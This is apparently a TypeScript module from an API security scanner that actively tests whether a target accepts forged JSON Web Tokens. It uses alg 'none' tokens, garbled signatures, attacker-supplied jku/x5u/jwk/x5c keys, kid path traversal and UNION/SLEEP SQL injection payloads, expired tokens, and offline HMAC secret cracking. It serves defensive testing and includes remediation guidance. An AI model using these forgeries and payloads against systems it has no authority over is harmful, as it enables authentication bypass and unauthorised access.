// src/checks/security/jwt-weakness.ts — active: the API accepts forged JSON Web Tokens (alg "none", a signature it
// never checks, a key the token names or carries — jku, x5u, jwk, x5c —, a key chosen or an SQL statement steered
// through kid, an expired token) or signs them with a weak HMAC secret cracked offline. Tokens come from the
// identities and from every sign-in operation (token issuer), each presented to the operations that accept it; proof
// is a forged token accepted where controls (no token, garbage signature) are refused, a delay that follows the kid,
// or the cracked secret reproducing the signature of a token the target issued.
import { z } from 'zod';
import type { Exchange, Operation, SendRequest } from '../../core/index.js';
import { defineCheck, type CandidateInput, type CheckContext } from '../kit/define.js';
import { crackHmac, decodeJwt, findJwts, forge, garbleSignature, hint, isHmac, signs, type Jwt } from './support/jwt.js';
import { keyPem, keySetDocument, signRs256, vouchKey } from './support/jwt-keys.js';
import { carry, findIssuers, FORGER, ok, pairValidators, presented, refused, sendWith, type Carrier } from './support/jwt-issuers.js';
import { nonce, routeOf, targetExchanges } from './support/exchanges.js';
import { delays, proveDelay, slowerBy, type DelayProof } from './support/timing.js';
import { TIME_PAYLOADS } from './sql-injection.js';

/** Forgeries whose key vouch made and the token names (jku, x5u: served by vouch's listener) or carries (jwk, x5c). */
type Keyed = 'jwt-jku-injection' | 'jwt-x5u-injection' | 'jwt-jwk-embedded' | 'jwt-x5c-embedded';
type Kind = 'jwt-alg-none' | 'jwt-signature-not-verified' | 'jwt-weak-secret' | 'jwt-expired-accepted'
  | 'jwt-kid-injection' | 'jwt-kid-sql-injection' | Keyed;
/** How an issuer writes x5c entries: base64 DER certificates (the standard), or PEM blocks. */
type X5cForm = 'der' | 'CERTIFICATE' | 'PUBLIC KEY' | 'PRIVATE KEY';
interface Data {
  kind: Kind;
  /** Where forgeries are presented; absent for a weak secret found in a response only (proven offline). */
  probe?: string;
  token: string;
  carrier?: Carrier;
  alg?: string;
  secret?: string;
  /** For jwt-kid-injection: which KID_TRICKS entry. */
  kid?: number;
  /** Whether the probe verifies signatures (a garbage signature refused), so a forgery's acceptance means something. */
  verified?: boolean;
  /** The operation that issued the token (`POST /login`), when known. */
  issuer?: string;
  /** For jwt-x5c-embedded: the issuer's x5c form. */
  form?: X5cForm;
  /** For jwt-kid-sql-injection: which KID_DELAYS entry. */
  delay?: number;
}
interface Options {
  wordlist: string[];
  delaySeconds: number;
}
type Ctx = CheckContext<Options>;

const ME = /\/(me|self|whoami|profile|account|session|user)\b/i;

/** GET operations that require authentication and take no path parameters, profile-like paths first. */
export function probeOperations(ops: readonly Operation[]): Operation[] {
  return ops
    .filter((o) => o.method === 'GET' && o.auth === 'required' && !o.path.includes('{'))
    .sort((a, b) => Number(ME.test(b.path)) - Number(ME.test(a.path)) || a.path.length - b.path.length);
}

/** HMAC tokens the target handed out in recorded responses (any header, any body), with the exchange that did. */
function issuedTokens(ctx: CheckContext<unknown>): Array<{ token: Jwt; x: Exchange }> {
  const out = new Map<string, { token: Jwt; x: Exchange }>();
  for (const x of targetExchanges(ctx.recorded(), ctx.target.url)) {
    const headers = x.response.headers.map(([k, v]) => `${k}: ${v}`).join('\n');
    const text = `${headers}\n${x.response.bodyEncoding === 'base64' ? '' : x.response.body}`;
    for (const t of findJwts(text)) if (isHmac(t) && !out.has(t.raw)) out.set(t.raw, { token: t, x });
  }
  return [...out.values()];
}

/**
 * `kid` values that make a server that looks the key up by kid use a key the attacker knows: an empty file
 * (path traversal to /dev/null: the key is empty) or an SQL lookup that returns a chosen string.
 */
export const KID_TRICKS: ReadonlyArray<{ how: string; kid: string; secret: string }> = [
  { how: 'path traversal to /dev/null (an empty key)', kid: '../../../../../../../../dev/null', secret: '' },
  { how: "SQL injection returning the key 'vouch'", kid: "vouch-none' UNION SELECT 'vouch'-- ", secret: 'vouch' },
];

/**
 * Delays asked for through the kid (the key lookup runs before the signature is checked, so no key is needed): a
 * quoted kid closed and the rest commented out, then sql-injection's non-stacked time payloads.
 */
export const KID_DELAYS: ReadonlyArray<{ engine: string; value: (base: string, seconds: number) => string }> = [
  { engine: 'PostgreSQL', value: (b, s) => `${b}' AND 1=(SELECT 1 FROM pg_sleep(${s}))-- -` },
  { engine: 'MySQL', value: (b, s) => `${b}' AND SLEEP(${s})-- -` },
  ...TIME_PAYLOADS.filter((p) => !p.stacked),
];

/** At most this many distinct issued tokens are cracked per scan (an uncracked HS256 token costs ~1 s of CPU). */
const MAX_CRACKS = 4;

const b64 = (v: unknown): string => Buffer.from(JSON.stringify(v)).toString('base64url');
/** Header fields that name or carry a key: a keyed forgery replaces them with its own. */
const KEY_FIELDS = new Set(['jku', 'x5u', 'x5c', 'jwk', 'kid', 'x5t', 'x5t#S256']);

/** The claims of a forgery: the token's plus a fresh `vouch` claim; an `exp` about to pass moved ahead (or back). */
function claimsFor(t: Jwt, n: string, expired = false): Record<string, unknown> {
  const now = Math.floor(Date.now() / 1000);
  const exp = typeof t.claims.exp === 'number' && t.claims.exp < now + 60 ? now + 600 : t.claims.exp;
  return { ...t.claims, vouch: n, ...(expired ? { exp: now - 86_400 } : exp !== undefined ? { exp } : {}) };
}

/** The x5c form an issuer's token uses (PEM blocks or the standard base64 DER). */
export function x5cForm(t: Jwt): X5cForm {
  const first: unknown = Array.isArray(t.header.x5c) ? t.header.x5c[0] : undefined;
  const label = typeof first === 'string' ? /-----BEGIN (CERTIFICATE|PUBLIC KEY|PRIVATE KEY)-----/.exec(first)?.[1] : undefined;
  return (label as X5cForm | undefined) ?? 'der';
}

/**
 * A token forged for a keyed kind, signed with vouch's key: `jku`/`x5u` name a URL of vouch's listener serving the
 * key (its `oob` token says whether the target fetched it); undefined when no listener runs.
 */
function forgeKeyed(ctx: Ctx, data: Data, n: string): { token: string; oob?: string; url?: string } | undefined {
  const t = decodeJwt(data.token)!;
  const key = vouchKey();
  const base = Object.fromEntries(Object.entries(t.header).filter(([k]) => !KEY_FIELDS.has(k)));
  const claims = claimsFor(t, n);
  switch (data.kind) {
    case 'jwt-jwk-embedded':
      return { token: signRs256(key, { ...base, jwk: key.jwk }, claims) };
    case 'jwt-x5c-embedded': {
      const form = data.form ?? 'der';
      const entry = form === 'der' ? key.certificate.toString('base64') : keyPem(key, form);
      return { token: signRs256(key, { ...base, x5c: [entry] }, claims) };
    }
    case 'jwt-jku-injection':
    case 'jwt-x5u-injection': {
      if (!ctx.oob) return undefined;
      const jku = data.kind === 'jwt-jku-injection';
      const m = ctx.oob.mint(jku
        ? { body: keySetDocument(key), contentType: 'application/json' }
        : { body: keyPem(key, 'CERTIFICATE'), contentType: 'application/x-pem-file' });
      const url = `${m.url}/${jku ? 'jwks.json' : 'cert.pem'}`;
      const header = jku ? { ...base, kid: key.kid, jku: url } : { ...base, x5u: url };
      return { token: signRs256(key, header, claims), oob: m.token, url };
    }
    default:
      return undefined;
  }
}

/** The token forged for a kind, carrying a fresh `vouch` claim so an accepted token cannot be a replay. */
function forgeFor(data: Data, n: string): string {
  const t = decodeJwt(data.token)!;
  const claims = claimsFor(t, n, data.kind === 'jwt-expired-accepted');
  if (data.kind === 'jwt-alg-none') return forge({ ...t.header, alg: data.alg ?? 'none' }, claims);
  const withSecret = data.kind === 'jwt-weak-secret' || data.kind === 'jwt-expired-accepted';
  if (withSecret) return forge(t.header, claims, data.secret);
  if (data.kind === 'jwt-kid-injection') {
    const trick = KID_TRICKS[data.kid ?? 0]!;
    return forge({ ...t.header, alg: 'HS256', kid: trick.kid }, claims, trick.secret);
  }
  const [h, , s] = t.raw.split('.');
  return `${h}.${b64(claims)}.${s}`; // same signature, new claims
}

/** The token with its kid replaced (claims and signature kept: the lookup runs before any check of them). */
function withKid(t: Jwt, kid: string): string {
  const [, p, s] = t.raw.split('.');
  return `${b64({ ...t.header, kid })}.${p}.${s}`;
}

const TITLES: Record<Kind, string> = {
  'jwt-alg-none': 'JWT accepted with alg "none" (no signature)',
  'jwt-signature-not-verified': 'JWT signature not verified',
  'jwt-weak-secret': 'JWT signed with a guessable HMAC secret',
  'jwt-expired-accepted': 'Expired JWT accepted',
  'jwt-kid-injection': 'JWT key chosen by the attacker through the kid header',
  'jwt-kid-sql-injection': 'SQL injection through the JWT kid header',
  'jwt-jku-injection': 'JWT verified with a key fetched from the URL in its jku header',
  'jwt-x5u-injection': 'JWT verified with a certificate fetched from the URL in its x5u header',
  'jwt-jwk-embedded': 'JWT verified with the key embedded in its jwk header',
  'jwt-x5c-embedded': 'JWT verified with the key embedded in its x5c header',
};

/** What each keyed forgery names or carries, for summaries. */
const KEYED: Record<Keyed, string> = {
  'jwt-jku-injection': "a jku header pointing at vouch's listener, which served a JWK set of a key vouch made",
  'jwt-x5u-injection': "an x5u header pointing at vouch's listener, which served a certificate of a key vouch made",
  'jwt-jwk-embedded': 'a jwk header carrying the public half of a key vouch made',
  'jwt-x5c-embedded': 'an x5c header carrying a key vouch made',
};

const ALGS_NONE: Record<'low' | 'default' | 'high', string[]> = { low: ['none'], default: ['none', 'None'], high: ['none', 'None', 'NONE', 'nOnE'] };

/** A token under test and where it is presented: an identity's on a "who am I" probe, or an issuer's on a validator. */
interface Under {
  probe: string;
  token: Jwt;
  carrier: Carrier;
  noToken: Exchange;
  /** The token itself accepted at the probe (else only forgeries that prove themselves are tried). */
  valid?: Exchange;
  /** The operation that issued the token and the answer that carried it. */
  issuer?: { method: string; path: string; url: string; answer: Exchange };
}

/** Per run: cracked secrets by token, the crack budget, tokens whose weak secret is already reported. */
interface State {
  cracks: Map<string, string | undefined>;
  reported: Set<string>;
  crack(t: Jwt): Promise<string | undefined>;
}

function newState(ctx: Ctx): State {
  const cracks = new Map<string, string | undefined>();
  return {
    cracks,
    reported: new Set(),
    async crack(t) {
      if (cracks.has(t.raw)) return cracks.get(t.raw);
      if (cracks.size >= MAX_CRACKS) return undefined;
      const secret = await crackHmac(t, ctx.options.wordlist);
      cracks.set(t.raw, secret);
      return secret;
    },
  };
}

/** A weak secret proven offline: it reproduces the signature of a token the target handed out in `x`. */
function offline(ctx: Ctx, token: Jwt, secret: string, x: Exchange, also: string): CandidateInput {
  const where = { ...routeOf(x.request.method, x.request.url, ctx.surface), url: x.request.url };
  return {
    operation: { method: where.method, path: where.path },
    url: where.url,
    title: TITLES['jwt-weak-secret'],
    vulnClass: 'jwt-weak-secret',
    confidence: 'tentative',
    proof: {
      summary: `the ${String(token.header.alg)} token that ${where.method} ${where.path} handed out is signed with a `
        + `weak secret (${hint(secret)}), cracked offline: HMAC with it reproduces the token's signature, so anyone `
        + `can sign tokens the API trusts${also}`,
      exchangeIds: [x.id],
      evidence: `secret ${hint(secret)}`,
      payload: `${token.raw.slice(0, token.raw.lastIndexOf('.'))}.<HMAC with the cracked secret>`,
    },
    data: { kind: 'jwt-weak-secret', token: token.raw, secret } satisfies Data,
    secrets: [secret], // kept out of the scan journal: a resume cracks it again
  };
}

/** Every forgery against one token at one probe, after the garbage-signature control. */
async function attack(ctx: Ctx, u: Under, state: State): Promise<{ candidates: CandidateInput[]; note?: string }> {
  const { probe, token, carrier, noToken } = u;
  const garbled = await sendWith(ctx, probe, garbleSignature(token), carrier);
  if (!ok(garbled) && !refused(garbled)) return { candidates: [], note: `GET ${probe}: the garbage-signature control got no answer (${garbled.error?.message ?? '-'})` };
  const out: CandidateInput[] = [];
  const verified = refused(garbled);
  const issuer = u.issuer ? `${u.issuer.method} ${u.issuer.path}` : undefined;
  const whose = issuer ? `the token ${issuer} issued` : 'the token';
  const at = { method: 'GET', path: probe, url: u.valid?.request.url ?? ctx.url(probe) };
  const candidate = (kind: Kind, x: { id: string }, data: Data, summary: string, payload: string, evidence: string, where = at, more: string[] = []): CandidateInput => ({
    operation: { method: where.method, path: where.path },
    url: where.url,
    title: TITLES[kind],
    vulnClass: kind,
    confidence: 'tentative',
    proof: { summary, exchangeIds: [x.id, ...more, noToken.id, garbled.id], evidence, payload },
    data: { ...data },
    ...(data.secret !== undefined ? { secrets: [data.secret] } : {}),
  });
  const base = { probe, token: token.raw, carrier, verified, ...(issuer ? { issuer } : {}) };
  const controls = `without a token → ${noToken.response!.status}`;
  const send = (t: string): Promise<Exchange> => sendWith(ctx, probe, t, carrier);

  if (!verified) {
    // A garbage signature accepted: with the token itself accepted too, claims can be changed at will.
    if (u.valid) {
      const data: Data = { ...base, kind: 'jwt-signature-not-verified' };
      const forged = forgeFor(data, nonce());
      const x = await send(forged);
      if (ok(x)) out.push(candidate('jwt-signature-not-verified', x, data, `GET ${probe} with ${whose}, its claims changed and its old signature → ${x.response!.status}; a garbage signature → ${garbled.response!.status} too; ${controls}`, forged, 'claims changed, signature unchanged: accepted'));
    }
  } else {
    for (const alg of ALGS_NONE[ctx.strength]) {
      const data: Data = { ...base, kind: 'jwt-alg-none', alg };
      const forged = forgeFor(data, nonce());
      const x = await send(forged);
      if (!ok(x)) continue;
      out.push(candidate('jwt-alg-none', x, data, `GET ${probe} with an unsigned token (header {"alg":"${alg}"}, the claims of ${whose} plus a random one) → ${x.response!.status}; a garbage signature → ${garbled.response!.status}; ${controls}`, forged, `alg "${alg}" accepted`));
      break;
    }
    // A token with a `kid`: the server looks its key up, perhaps in a file or a table the kid can steer.
    if (typeof token.header.kid === 'string') {
      for (const [i, trick] of KID_TRICKS.entries()) {
        const data: Data = { ...base, kind: 'jwt-kid-injection', kid: i };
        const forged = forgeFor(data, nonce());
        const x = await send(forged);
        if (!ok(x)) continue;
        out.push(candidate('jwt-kid-injection', x, data, `GET ${probe} with an HS256 token whose kid is ${JSON.stringify(trick.kid)}, signed with ${trick.secret ? JSON.stringify(trick.secret) : 'an empty key'} → ${x.response!.status} (${trick.how}); a garbage signature → ${garbled.response!.status}; ${controls}`, forged, `kid ${JSON.stringify(trick.kid)} accepted`));
        break;
      }
    }
    // Keys vouch made, named by URL or carried in the header: accepted, and the same token with a garbage signature
    // refused, means the server verified with whatever key the token pointed it at.
    for (const kind of ['jwt-jku-injection', 'jwt-x5u-injection', 'jwt-jwk-embedded', 'jwt-x5c-embedded'] as const) {
      const data: Data = { ...base, kind, ...(kind === 'jwt-x5c-embedded' ? { form: x5cForm(token) } : {}) };
      const forged = forgeKeyed(ctx, data, nonce());
      if (!forged) continue;
      const x = await send(forged.token);
      if (!ok(x)) continue;
      const bad = await send(garbleSignature(decodeJwt(forged.token)!));
      const hit = forged.oob ? await ctx.oob?.waitFor(forged.oob, 1000) : undefined;
      if (!refused(bad) || (forged.oob && !hit)) continue;
      const fetched = hit ? `; vouch's listener was fetched (${hit.request.method} ${forged.url})` : '';
      const summary = `GET ${probe} with a token (the claims of ${whose} plus a random one) with ${KEYED[kind]}, signed with that key → ${x.response!.status}${fetched}; the same token with a garbage signature → ${bad.response!.status}; ${controls}`;
      const evidence = `${kind.slice(4, kind.indexOf('-', 4))} header trusted`;
      out.push(candidate(kind, x, data, summary, forged.token, evidence, at, [bad.id, ...(hit ? [hit.id] : [])]));
    }
  }
  // The kid pasted into an SQL lookup: it runs before the signature is checked, so no key is needed to steer it.
  const sqli = typeof token.header.kid === 'string' ? await kidDelay(ctx, u, base) : undefined;
  if (sqli) {
    const ids = sqli.proof.exchangeIds; // payload and control at 0 s, d and 2d: the 2d payload leads
    const summary = `GET ${probe} with ${whose}, its kid ${JSON.stringify(token.header.kid)} replaced by a ${sqli.engine} delay (${JSON.stringify(sqli.payload)}): the answer waits as long as asked (${sqli.proof.summary}); the key lookup pastes the kid into SQL`;
    out.push(candidate('jwt-kid-sql-injection', { id: ids[4] ?? ids[0]! }, sqli.data, summary, sqli.payload, `kid delays the answer (${sqli.engine})`, at, ids.filter((id) => id !== ids[4])));
  }
  // The secret is cracked offline whether or not the probe verifies signatures: a weak key is a finding either way.
  const secret = isHmac(token) && !state.reported.has(token.raw) ? await state.crack(token) : undefined;
  if (secret === undefined) return { candidates: out };
  state.reported.add(token.raw);
  const answer = u.issuer?.answer ?? targetExchanges(ctx.recorded(), ctx.target.url).find((x) => x.response.body.includes(token.raw) || x.response.headers.some(([, v]) => v.includes(token.raw)));
  const where = u.issuer ?? (answer ? { ...routeOf(answer.request.method, answer.request.url, ctx.surface), url: answer.request.url } : at);
  const data: Data = { ...base, kind: 'jwt-weak-secret', secret };
  const forged = verified && u.valid ? forgeFor(data, nonce()) : undefined;
  const x = forged ? await send(forged) : undefined;
  if (!forged || !x || !ok(x)) {
    const also = !verified ? `; GET ${probe} does not verify signatures either (a garbage signature → ${garbled.response!.status})` : '';
    out.push(offline(ctx, token, secret, answer ?? u.valid ?? noToken, also));
    return { candidates: out };
  }
  const claims = JSON.stringify(decodeJwt(forged)!.claims);
  const summary = `the ${String(token.header.alg)} tokens${answer ? ` issued by ${where.method} ${where.path}` : ''} are signed with a weak secret (${hint(secret)}), cracked offline; a token forged with it (claims ${claims}) → GET ${probe} ${x.response!.status}; a garbage signature → ${garbled.response!.status}; ${controls}`;
  const c = candidate('jwt-weak-secret', x, data, summary, `${forged.slice(0, forged.lastIndexOf('.'))}.<HMAC with the cracked secret>`, `secret ${hint(secret)}`, where);
  if (answer) c.proof.exchangeIds.push(answer.id);
  out.push(c);
  if (typeof token.claims.exp === 'number') {
    const expired: Data = { ...base, kind: 'jwt-expired-accepted', secret };
    const old = forgeFor(expired, nonce());
    const y = await send(old);
    if (ok(y)) out.push(candidate('jwt-expired-accepted', y, expired, `GET ${probe} with a token signed with the cracked secret whose exp is a day in the past → ${y.response!.status}; ${controls}`, `${old.slice(0, old.lastIndexOf('.'))}.<HMAC with the cracked secret>`, 'exp a day ago: accepted'));
  }
  return { candidates: out };
}

/** The kid delay proof: the token as issued is the control; the kid payload asks for 0, d and 2d seconds. */
function kidProof(ctx: Ctx, data: Data): Promise<DelayProof> {
  const t = decodeJwt(data.token)!;
  const p = KID_DELAYS[data.delay ?? 0]!;
  const req = (token: string): SendRequest => ({ method: 'GET', url: data.probe!, headers: [carry(token, data.carrier!)] });
  const payload = (s: number): SendRequest => req(withKid(t, p.value(String(t.header.kid), s)));
  return proveDelay((r) => ctx.send({ ...r, identity: FORGER }), payload, () => req(t.raw), delays(ctx));
}

/** A delay asked for through the kid: each payload once beside the token as issued, the slow one then proven. */
async function kidDelay(ctx: Ctx, u: Under, base: Omit<Data, 'kind'>) {
  const kid = String(u.token.header.kid);
  const [d1] = delays(ctx);
  for (const [i, p] of KID_DELAYS.entries()) {
    const c = await sendWith(ctx, u.probe, u.token.raw, u.carrier);
    const x = await sendWith(ctx, u.probe, withKid(u.token, p.value(kid, d1)), u.carrier);
    if (!slowerBy(x, c, d1)) continue;
    const data: Data = { ...base, kind: 'jwt-kid-sql-injection', delay: i };
    const proof = await kidProof(ctx, data);
    if (proof.proven) return { data, proof, engine: p.engine, payload: p.value(kid, d1) };
  }
  return undefined;
}

/**
 * One finding per issuer and kind: the same forgery accepted by several operations beside one issuer (one verify
 * function behind them all) is reported on the first, the others listed as its `locations`.
 */
function sameIssuer(candidates: CandidateInput[]): CandidateInput[] {
  const first = new Map<string, CandidateInput>();
  const out: CandidateInput[] = [];
  for (const c of candidates) {
    const d = c.data as unknown as Data;
    const key = d.kind === 'jwt-weak-secret' || !d.probe ? undefined : `${d.kind} ${d.issuer ?? d.token}`;
    const seen = key === undefined ? undefined : first.get(key);
    if (!seen) {
      if (key !== undefined) first.set(key, c);
      out.push(c);
      continue;
    }
    const at = { method: c.operation.method, path: c.operation.path, url: c.url };
    seen.locations = [...(seen.locations ?? []), at];
    const where = seen.locations.map((l) => `${l.method} ${l.path}`).join(', ');
    seen.proof.summary = `${seen.proof.summary.replace(/ \(the same on [^)]*\)$/, '')} (the same on ${where})`;
  }
  return out;
}

/** How the identities present their tokens (the first recorded request of one that carried a JWT). */
function identityCarrier(ctx: Ctx): Carrier | undefined {
  const names = new Set(ctx.identities.filter((i) => i.auth.kind !== 'none').map((i) => i.name));
  for (const x of ctx.recorded()) if (names.has(x.identity ?? '')) {
    const p = presented(x);
    if (p) return p.carrier;
  }
  return undefined;
}

/** The identities' own tokens on a "who am I" probe: the first probe an identity's token is accepted at. */
async function identityProbe(ctx: Ctx): Promise<{ under?: Under; note?: string }> {
  const probes = probeOperations(ctx.surface.operations);
  let found: { probe: Operation; token: Jwt; carrier: Carrier; valid: Exchange } | undefined;
  for (const id of ctx.identities.filter((i) => i.auth.kind !== 'none')) {
    for (const probe of probes.slice(0, 3)) {
      const x = await ctx.send({ method: 'GET', url: probe.path, identity: id.name });
      const p = presented(x);
      if (!p) break; // this identity does not present a JWT
      if (ok(x)) {
        found = { probe, ...p, valid: x };
        break;
      }
    }
    if (found) break;
  }
  if (!found) {
    if (!probes.length) return { note: 'no GET operation that requires authentication and has no path parameters to present identity tokens to' };
    return { note: 'no identity presented a JWT that an authenticated GET operation accepted (configure a login that returns one)' };
  }
  const { probe, token, carrier, valid } = found;
  const noToken = await sendWith(ctx, probe.path, undefined, carrier);
  if (!refused(noToken)) return { note: `${probe.path} answered ${noToken.response?.status ?? noToken.error?.message ?? '-'} without a token, so acceptance proves nothing there` };
  // Where the token came from: the recorded response that carried it (the login).
  const issued = targetExchanges(ctx.recorded(), ctx.target.url).find((x) => x.response.body.includes(token.raw) || x.response.headers.some(([, v]) => v.includes(token.raw)));
  const issuer = issued ? { ...routeOf(issued.request.method, issued.request.url, ctx.surface), url: issued.request.url, answer: issued } : undefined;
  return { under: { probe: probe.path, token, carrier, noToken, valid, ...(issuer ? { issuer } : {}) } };
}

export default defineCheck({
  id: 'jwt-weakness',
  family: 'security',
  kind: 'active',
  scope: 'target',
  meta: {
    title: 'Forgeable JSON Web Tokens',
    description: 'The API accepts tokens anyone can make: signed with alg "none", with a signature it never verifies, '
      + 'with a key the token names (jku, x5u) or carries (jwk, x5c), with a key chosen through the kid header, or '
      + 'expired; or it pastes the kid into SQL; or it signs them with an HMAC secret found in a list of weak secrets '
      + 'or digit runs. Every sign-in operation is a token issuer, tried against the operations that accept its tokens.',
    severity: 'critical',
    cwe: 'CWE-347',
    owasp: 'A02:2021 Cryptographic Failures',
    remediation: 'Verify every token with a fixed algorithm allow-list (never "none", never taken from the token header) and keys the server holds (never a key or key URL from the token: ignore jku, x5u, jwk and x5c, or pin them to an allow-list), look kid up in a fixed map, and sign with a random secret of at least 256 bits kept out of source control (or an asymmetric key); rotate the secret now.',
    proves: 'A forged token (fresh random claim, no valid signature from the issuer) answered 2xx on an operation that '
      + 'refuses the same request without a token and with a garbage signature (for a key vouch made and the token '
      + 'named or carried: the forgery with a garbage signature refused too, and a named URL fetched from vouch\'s '
      + 'listener); replayed with a fresh claim at confirmation. A kid SQL injection: a delay that follows the one '
      + 'asked for through the kid, against same-run controls. A weak secret no forgery can prove more: the secret '
      + 'reproduces the signature of a token the target issued, re-verified offline.',
  },
  options: z.strictObject({
    /** Extra secrets to try besides the built-in wordlist (tried offline only). */
    wordlist: z.array(z.string()).default([]),
    /** Delay asked for through the kid, in seconds (twice that to prove it; capped at 1 s in safe mode). */
    delaySeconds: z.number().min(1).max(10).default(2),
  }),
  needsOob: true,
  async run(ctx) {
    const state = newState(ctx);
    const candidates: CandidateInput[] = [];
    const notes: string[] = [];
    const tested = new Set<string>();
    // 1. A real token: the one an identity sends (its login ran through the engine), on a "who am I" probe.
    const id = await identityProbe(ctx);
    if (id.note) notes.push(id.note);
    if (id.under) {
      tested.add(id.under.probe);
      const r = await attack(ctx, id.under, state);
      candidates.push(...r.candidates);
      if (r.note) notes.push(r.note);
    }
    // 2. Every sign-in operation is a token issuer: its tokens on the operations beside it that accept them.
    const found = await findIssuers(ctx);
    notes.push(...found.notes);
    const paired = await pairValidators(ctx, found.issuers, id.under?.carrier ?? identityCarrier(ctx), tested);
    notes.push(...paired.notes);
    for (const p of paired.pairs) {
      const a = p.issuer.answer;
      const issuer = { method: p.issuer.op.method, path: p.issuer.op.path, url: a.request.url, answer: a };
      const r = await attack(ctx, { probe: p.validator.path, token: p.token, carrier: p.carrier, noToken: p.noToken, issuer, ...(p.accepted ? { valid: p.accepted } : {}) }, state);
      candidates.push(...r.candidates);
      if (r.note) notes.push(r.note);
    }
    // 3. HMAC tokens handed out in any recorded response, not tried above: cracked offline.
    for (const { token, x } of issuedTokens(ctx)) {
      if (state.cracks.has(token.raw) || state.reported.has(token.raw)) continue;
      const secret = await state.crack(token);
      if (secret === undefined) continue;
      state.reported.add(token.raw);
      candidates.push(offline(ctx, token, secret, x, ''));
    }
    if (candidates.length) return { status: 'found', candidates: sameIssuer(candidates) };
    if (id.under || paired.pairs.length) return { status: 'clean' };
    return { status: 'inconclusive', reason: `${[...notes, 'no HMAC token in a response was crackable'].join('; ')}` };
  },
  async confirm(candidate, ctx) {
    const data = candidate.data as Data | undefined;
    const token = data ? decodeJwt(data.token) : undefined;
    if (!data || !token) return { confirmed: false, exchangeIds: [], reason: 'the candidate lost its data' };
    if (data.kind === 'jwt-weak-secret' && data.secret !== undefined && !data.verified) {
      // Proven offline: the issued token (recorded) is re-verified with the secret; no forgery can add to that.
      if (signs(token, data.secret)) return { confirmed: true, exchangeIds: [], summary: `${candidate.proof.summary}; re-verified offline: HMAC-${String(token.header.alg).slice(2)} of the issued token with the secret equals its signature` };
      return { confirmed: false, exchangeIds: [], reason: 'the secret does not reproduce the signature on re-verification' };
    }
    if (!data.probe || !data.carrier) return { confirmed: false, exchangeIds: [], reason: 'the candidate lost its data' };
    if (data.kind === 'jwt-kid-sql-injection') {
      const proof = await kidProof(ctx, data);
      if (proof.proven) return { confirmed: true, exchangeIds: proof.exchangeIds, summary: `${candidate.proof.summary}; replayed: ${proof.summary}` };
      return { confirmed: false, exchangeIds: proof.exchangeIds, reason: `the delay did not follow the kid on replay (${proof.summary})` };
    }
    const n = nonce();
    const keyed = forgeKeyed(ctx, data, n);
    if (keyed === undefined && (data.kind === 'jwt-jku-injection' || data.kind === 'jwt-x5u-injection')) return { confirmed: false, exchangeIds: [], reason: "vouch's out-of-band listener is not running, so the key URL cannot be served" };
    const forged = keyed?.token ?? forgeFor(data, n);
    const x = await sendWith(ctx, data.probe, forged, data.carrier);
    // Keyed forgeries: the same forged token with a garbage signature; the others: the issued token's.
    const control = await sendWith(ctx, data.probe, garbleSignature(keyed ? decodeJwt(forged)! : token), data.carrier);
    const none = await sendWith(ctx, data.probe, undefined, data.carrier);
    const hit = keyed?.oob ? await ctx.oob?.waitFor(keyed.oob, 1000) : undefined;
    const ids = [x.id, control.id, none.id, ...(hit ? [hit.id] : [])];
    const controlsHold = data.kind === 'jwt-signature-not-verified' ? refused(none) : refused(control) && refused(none);
    if (keyed?.oob && !hit) return { confirmed: false, exchangeIds: ids, reason: `the target did not fetch the key URL (${keyed.url ?? ''}) on replay` };
    if (ok(x) && controlsHold) return { confirmed: true, exchangeIds: ids, summary: `${candidate.proof.summary}; replayed with a fresh claim (vouch: ${n}) → ${x.response!.status} while the controls were refused again` };
    return { confirmed: false, exchangeIds: ids, reason: ok(x) ? 'a control was accepted on replay, so acceptance proves nothing' : `the forged token got ${x.response?.status ?? '-'} on replay` };
  },
  example: { url: 'http://127.0.0.1:8080/api/users/me', summary: 'GET /api/users/me with an unsigned token (header {"alg":"none"}) → 200; a garbage signature → 401; without a token → 401' },
});
